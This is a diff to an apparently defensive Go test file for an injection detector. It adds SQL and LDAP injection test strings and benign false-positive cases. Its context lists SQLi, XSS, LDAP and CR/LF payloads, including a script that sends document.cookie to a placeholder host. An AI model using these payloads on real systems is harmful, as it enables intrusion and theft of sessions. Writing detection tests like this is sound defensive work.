@@ -25,6 +25,7 @@ var attacks = []struct {
 	{SQLi, Arg, "/*!50000UNION*/ /*!50000SELECT*/ 1,2"},
 	{SQLi, Arg, "1;WAITFOR DELAY '0:0:5'--"},
 	{SQLi, Header, "' OR 1=1 LIMIT 1 -- "},
+	{SQLi, Arg, "admin' #"},
 	// XSS: markup, attribute break-outs, script URLs, script contexts
 	{XSS, Arg, "<script>new Image().src='//x.example/?'+document.cookie</script>"},
 	{XSS, Arg, "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"},
@@ -84,6 +85,7 @@ var attacks = []struct {
 	{LDAP, Arg, "admin)(|(objectClass=*)"},
 	{LDAP, Arg, "(|(cn=*)(mail=*))"},
 	{LDAP, Arg, "cn:1.3.6.1.4.1.1466.109.114.2:=Admin"},
+	{LDAP, Arg, "admin*)((|userPassword=*)"},
 	// CR/LF: mail headers, response splitting, mail commands
 	{CRLF, Arg, "alice@example.com\r\nBcc: list@example.net"},
 	{CRLF, Arg, "\nRCPT TO:<victim@example.net>\n"},
@@ -194,6 +196,8 @@ var benign = []struct {
 	{Arg, "Dear team,\nTo: whoever reads this\nThanks for the help!\nBob"},
 	{Arg, "Steps:\n1. run make\n2. cat the log\n3. done"},
 	{Arg, "I'd say 2 or 3 bedrooms; budget < $500k"},
+	{Arg, "Pat's # one fan"},
+	{Arg, "(see the notes) and (the appendix)"},
 	{Arg, "for item in items:\n    if item.price > 10 and item.stock:\n        print(f\"{item.name}: {item.price}\")\n"},
 	{Arg, "My email is bob@example.com; phone (555) 010-9999"},
 	{Name, "filter[status]"},
